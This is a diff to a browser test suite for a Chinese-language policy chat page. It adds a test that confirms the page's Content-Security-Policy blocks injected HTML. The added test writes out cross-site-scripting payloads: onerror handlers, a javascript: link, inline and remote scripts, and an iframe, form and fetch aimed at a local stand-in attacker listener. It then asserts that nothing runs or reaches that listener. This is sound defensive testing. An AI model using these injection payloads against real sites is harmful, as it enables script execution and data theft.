@@ -1,9 +1,11 @@
 """The chat page in a real browser, over a fake chain."""
 
-from collections.abc import Callable, Iterator, Sequence
+import socket
+from collections.abc import Callable, Iterator
 from dataclasses import dataclass, field
 from pathlib import Path
 from threading import Event, Timer
+from typing import Any
 from urllib.parse import urlsplit
 
 import pytest
@@ -32,10 +34,8 @@ class PageChain(FakeChain):
         super().__init__()
         self.go = Event()
 
-    def stream(
-        self, question: str, history: Sequence[str] = (), documents: Sequence[str] = ()
-    ) -> Iterator[Answer]:
-        for answer in super().stream(question, history, documents):
+    def stream(self, question: str, *rest: Any, **more: Any) -> Iterator[Answer]:
+        for answer in super().stream(question, *rest, **more):
             yield answer
             if "慢慢" in question:
                 assert self.go.wait(WAIT)
@@ -96,6 +96,61 @@ def test_the_page_is_chinese_and_waits_for_a_question(page: Page) -> None:
     expect(page.locator("#chat")).to_contain_text("请输入问题。回答只依据已收录的政策文件，并逐条注明出处。")
     expect(page.locator("#pq-box")).to_be_focused()
     expect(page.locator("footer")).to_have_count(0)
+
+
+def heard(listening: socket.socket) -> bytes:
+    """What has been sent there so far. Chromium connects early where a frame or a form might lead, and says nothing."""
+    told = b""
+    while True:
+        try:
+            line, _ = listening.accept()
+        except BlockingIOError:
+            return told
+        with line:
+            line.settimeout(0.2)
+            try:
+                told += line.recv(4096)
+            except TimeoutError:
+                continue
+
+
+def test_what_slips_into_the_page_as_html_runs_nothing_and_fetches_nothing(
+    browser: BrowserContext, server: Server
+) -> None:
+    """Should text ever be put into the page unescaped, the browser itself still refuses (Content-Security-Policy)."""
+    page = browser.new_page()
+    said: list[str] = []
+    page.on("console", lambda line: said.append(line.text))
+    page.goto(server.address)
+    expect(page.locator(".pq-welcome")).to_be_visible()
+    attacker = socket.create_server(("127.0.0.1", 0))
+    attacker.setblocking(False)
+    page.evaluate(
+        """(evil) => {
+            window.ran = [];
+            const slipped = `<img src=x onerror="ran.push('handler')"><a id=evil href="javascript:ran.push('link')">x</a>
+                <img src="${evil}/pixel"><iframe src="${evil}/frame"></iframe>
+                <form id=form action="${evil}/form"><input name=q></form>`;
+            document.querySelector("#chat").insertAdjacentHTML("beforeend", slipped);
+            const inline = document.createElement("script");
+            inline.textContent = "ran.push('inline')";
+            const remote = document.createElement("script");
+            remote.src = `${evil}/remote.js`;
+            document.body.append(inline, remote);
+            document.querySelector("#evil").click();
+            document.querySelector("#form").submit();
+            fetch(`${evil}/told`).catch(() => ran.push("no fetch"));
+        }""",
+        f"http://127.0.0.1:{attacker.getsockname()[1]}",
+    )
+    page.wait_for_function("ran.includes('no fetch')")
+    page.wait_for_timeout(300)
+    assert page.evaluate("ran") == ["no fetch"]
+    assert page.url == server.address
+    assert heard(attacker) == b""
+    attacker.close()
+    assert sum("Content Security Policy" in line for line in said) >= 7
+    page.close()
 
 
 def test_a_question_is_answered_with_its_sources_word_for_word(page: Page) -> None:
